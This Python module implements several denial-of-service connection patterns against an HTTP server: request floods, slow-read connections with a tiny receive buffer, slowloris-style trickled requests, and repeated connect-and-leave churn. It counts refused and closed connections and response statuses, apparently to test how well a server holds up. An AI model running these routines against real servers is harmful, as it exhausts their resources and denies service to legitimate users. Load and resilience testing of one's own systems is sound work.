"""Open the connections of an attacker, which ask, read nothing, send slowly or leave until the time is up."""

from __future__ import annotations

import asyncio
import socket
from collections import Counter
from collections.abc import Callable, Coroutine, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import cycle
from typing import Any
from urllib.parse import urlsplit

SMALL_BUFFER = 1024
"""The receive buffer of a connection that does not read, in bytes."""
ESTABLISHED = 1
"""The state of an open TCP connection in TCP_INFO."""
PAUSE = 0.2
"""The seconds to wait after a refused connection before the next one is opened."""


@dataclass
class Tally:
    """How many connections of an attack were opened, refused and closed by the server, and the answers to them."""

    opened: int = 0
    refused: int = 0
    closed: int = 0
    """The number of connections that the server closed."""
    answers: Counter[str] = field(default_factory=Counter)
    """The number of answers by their status."""


@dataclass
class Attacker:
    """The target of an attack, its source address, its end, and its tally."""

    url: str
    source: str
    end: float
    """The time at which the attack ends, on the clock of the event loop."""
    tally: Tally = field(default_factory=Tally)

    def goes_on(self) -> bool:
        """Return whether the attack's end has not come yet."""
        return asyncio.get_running_loop().time() < self.end

    async def open(self, receive_buffer: int = 0) -> socket.socket | None:
        """Return a new connection; None, after a pause, if the server accepts none."""
        target = urlsplit(self.url)
        line = socket.socket()
        line.setblocking(False)
        if receive_buffer:
            line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
        try:
            line.bind((self.source, 0))
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(line, (target.hostname, target.port)), 5)
        except OSError:  # this includes TimeoutError
            line.close()
            self.tally.refused += 1
            await asyncio.sleep(PAUSE)
            return None
        except asyncio.CancelledError:
            line.close()
            raise
        self.tally.opened += 1
        return line

    async def repeat(self, connections: int, use: Callable[[Attacker], Coroutine[Any, Any, None]]) -> None:
        """Run `use` in `connections` tasks at once; each task calls it again when it ends, until the time is up."""

        async def repeat_use(number: int) -> None:
            await asyncio.sleep(min(1.0, number / 1000))  # so that a thousand tasks start evenly within a second
            while self.goes_on():
                with suppress(OSError):
                    await use(self)

        tasks = [asyncio.create_task(repeat_use(number)) for number in range(connections)]
        _, unfinished = await asyncio.wait(tasks, timeout=self.end - asyncio.get_running_loop().time())
        for task in unfinished:
            task.cancel()
        await asyncio.gather(*unfinished, return_exceptions=True)


async def send(line: socket.socket, data: bytes) -> None:
    """Send all of the data."""
    await asyncio.get_running_loop().sock_sendall(line, data)


async def read_to_end(line: socket.socket) -> bytes:
    """Read until the server closes the connection, and return the first bytes, which have the status."""
    first = b""
    while data := await asyncio.get_running_loop().sock_recv(line, 2**18):
        first = first if len(first) > 12 else first + data[:100]
    return first


async def ask(attacker: Attacker, requests: Sequence[bytes], at_once: int) -> None:
    """Send the requests again and again, each on a connection of its own, and read the answers."""
    next_request: Iterator[bytes] = cycle(requests)

    async def use(attacker: Attacker) -> None:
        line = await attacker.open()
        if line is None:
            return
        with line:
            await send(line, next(next_request))
            answer = await read_to_end(line)
            attacker.tally.answers[answer[9:12].decode("latin-1") or "none"] += 1

    await attacker.repeat(at_once, use)


async def read_nothing(attacker: Attacker, data: bytes, connections: int, read_a_second: int = 0) -> None:
    """Send a request and read nothing of the answer, or a few bytes a second; reconnect when the server closes."""

    async def use(attacker: Attacker) -> None:
        line = await attacker.open(SMALL_BUFFER)
        if line is None:
            return
        with line:
            sending = asyncio.create_task(send(line, data))
            while is_open(line) and not (sending.done() and sending.exception()):
                await asyncio.sleep(1)
                if read_a_second and not read_some(line, read_a_second):
                    break
            sending.cancel()
            attacker.tally.closed += 1

    await attacker.repeat(connections, use)


def is_open(line: socket.socket) -> bool:
    """Return whether the connection is open, as far as the system knows."""
    return line.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)[0] == ESTABLISHED


def read_some(line: socket.socket, size: int) -> bool:
    """Read what has arrived, at most `size` bytes, and return whether the connection is still open."""
    try:
        return line.recv(size) != b""
    except BlockingIOError:
        return True


async def trickle(
    attacker: Attacker, start: bytes, pieces: Sequence[bytes], every: float, connections: int, shut: bool = False
) -> None:
    """Send `start`, then a piece each time `every` seconds pass; with `shut`, close the sending half after `start`."""
    next_piece = cycle(pieces) if pieces else None

    async def use(attacker: Attacker) -> None:
        line = await attacker.open()
        if line is None:
            return
        with line:
            await send(line, start)
            if shut:
                line.shutdown(socket.SHUT_WR)
            while read_some(line, 2**16):
                await asyncio.sleep(every)
                if next_piece:
                    await send(line, next(next_piece))
            attacker.tally.closed += 1

    await attacker.repeat(connections, use)


async def leave(attacker: Attacker, data: bytes, at_once: int, after: float = 0.0) -> None:
    """Connect, send and leave before there is an answer, again and again."""

    async def use(attacker: Attacker) -> None:
        line = await attacker.open()
        if line is None:
            return
        with line:
            await send(line, data)
            await asyncio.sleep(after)

    await attacker.repeat(at_once, use)
